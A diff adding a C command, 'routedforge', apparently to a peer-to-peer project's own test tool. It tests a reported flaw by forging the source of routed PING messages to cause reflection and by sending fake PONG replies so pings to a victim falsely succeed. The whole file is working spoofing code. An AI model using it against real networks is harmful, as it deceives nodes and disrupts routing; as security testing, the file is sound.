@@ -1,0 +1,140 @@
+/*
+ * p2pload routedforge (issue 9, Low: routed messages' source). One link to
+ * the daemon whose HELLO says "server", so the daemon routes through us:
+ *  - reflection: routed PINGs "from" a victim (an ID next to ours, so the
+ *    daemon's answer comes back to us), unsigned and signed by us; a PONG
+ *    for the victim that reaches us is a reflection;
+ *  - fake success: every routed PING that we are asked to pass on is
+ *    answered at once with a PONG "from" its destination echoing the
+ *    nonce (a bare nonce as the old form had, or the payload with its kind
+ *    turned into pong). `p2pctl ping VICTIM` succeeding is the fake.
+ * Prints "routedforge: id=ID victim=ID" at once, and at the end
+ * "routedforge: reflected=R forged_pongs=F".
+ */
+#include <poll.h>
+#include <sodium.h>
+#include <stdio.h>
+#include <string.h>
+
+#include "overlay/overlay.h"
+#include "pl.h"
+#include "proto/peerid.h"
+#include "proto/rping.h"
+
+#define FORGE_PINGS 20 /* reflection attempts, in each form */
+
+struct forge {
+	struct p2p_peerid self, victim;
+	unsigned reflected, forged;
+};
+
+static void send_routed(struct pl_link *l, const struct p2p_peerid *src,
+			const struct p2p_peerid *dst, uint8_t app,
+			const uint8_t *p, size_t len)
+{
+	struct p2p_msg m = {.type = P2P_MSG_ROUTED};
+
+	randombytes_buf(&m.u.routed.msgid, sizeof(m.u.routed.msgid));
+	m.u.routed.hops = P2P_ROUTE_HOPS;
+	m.u.routed.src = *src;
+	m.u.routed.dst = *dst;
+	m.u.routed.app = app;
+	m.u.routed.payload = p;
+	m.u.routed.len = len;
+	pl_link_send(l, &m);
+}
+
+static void on_msg(struct pl_link *l, const struct p2p_msg *m)
+{
+	struct forge *f = l->ctx;
+	uint8_t pay[P2P_RPING_LEN];
+	size_t len = m->u.routed.len;
+
+	if (m->type != P2P_MSG_ROUTED)
+		return;
+	if (m->u.routed.app == P2P_APP_PONG &&
+	    p2p_peerid_equal(&m->u.routed.dst, &f->victim)) {
+		f->reflected++;
+		return;
+	}
+	if (m->u.routed.app != P2P_APP_PING ||
+	    p2p_peerid_equal(&m->u.routed.dst, &f->self) || len > sizeof(pay))
+		return;
+	/* Pass-through PING: answer it as if we were its destination. */
+	memcpy(pay, m->u.routed.payload, len);
+	if (len == P2P_RPING_LEN)
+		pay[1] = P2P_RPING_PONG;
+	send_routed(l, &m->u.routed.dst, &m->u.routed.src, P2P_APP_PONG, pay,
+		    len);
+	f->forged++;
+}
+
+static bool pump(struct pl_link *l, long long ms)
+{
+	long long end = pl_now_us() + ms * 1000LL;
+
+	while (l->state != PL_DEAD && pl_now_us() < end) {
+		struct pollfd p = {.fd = l->fd, .events = pl_link_events(l)};
+		if (poll(&p, 1, 20) > 0)
+			pl_link_io(l, p.revents);
+	}
+	return l->state != PL_DEAD;
+}
+
+int pl_cmd_routedforge(int argc, char **argv)
+{
+	struct p2p_addr a;
+	struct sockaddr_storage ss;
+	socklen_t sl;
+	struct pl_link l;
+	struct forge f = {0};
+	long secs = pl_opt(argc, argv, "--seconds", 5);
+	char t1[P2P_ID_TEXT_LEN + 1], t2[P2P_ID_TEXT_LEN + 1];
+	const struct p2p_peerid *daemon;
+	long long end;
+
+	if (argc < 2 || secs < 1 || pl_sockaddr(argv[1], &a, &ss, &sl) < 0)
+		return PL_USAGE;
+	if (pl_link_dial(&l, &a, &ss, sl, NULL) < 0) {
+		pl_link_free(&l);
+		return PL_IO;
+	}
+	l.say_server = true;
+	l.on_msg = on_msg;
+	l.ctx = &f;
+	end = pl_now_us() + 5000000LL;
+	while (l.state != PL_DEAD && !(l.state == PL_UP && l.got_hello) &&
+	       pl_now_us() < end)
+		pump(&l, 50);
+	if (l.state != PL_UP || !l.got_hello) {
+		printf("routedforge: no link\n");
+		pl_link_free(&l);
+		return PL_IO;
+	}
+	f.self = l.ident.id;
+	f.victim = f.self;
+	f.victim.b[P2P_ID_LEN - 1] ^= 1; /* nearer to us than anyone */
+	daemon = p2p_session_peer(l.sess);
+	p2p_peerid_to_text(&f.self, t1);
+	p2p_peerid_to_text(&f.victim, t2);
+	printf("routedforge: id=%s victim=%s\n", t1, t2);
+	fflush(stdout);
+	for (int i = 0; i < FORGE_PINGS; i++) {
+		uint8_t pay[P2P_RPING_LEN];
+		uint64_t nonce;
+
+		randombytes_buf(&nonce, sizeof(nonce));
+		send_routed(&l, &f.victim, daemon, P2P_APP_PING,
+			    (const uint8_t *)&nonce, sizeof(nonce));
+		if (p2p_rping_encode(P2P_RPING_PING, nonce, &l.ident, daemon,
+				     pay) == 0)
+			send_routed(&l, &f.victim, daemon, P2P_APP_PING, pay,
+				    sizeof(pay));
+		pump(&l, 20);
+	}
+	pump(&l, secs * 1000);
+	printf("routedforge: reflected=%u forged_pongs=%u%s\n", f.reflected,
+	       f.forged, l.state == PL_DEAD ? " (closed by the daemon)" : "");
+	pl_link_free(&l);
+	return PL_OK;
+}
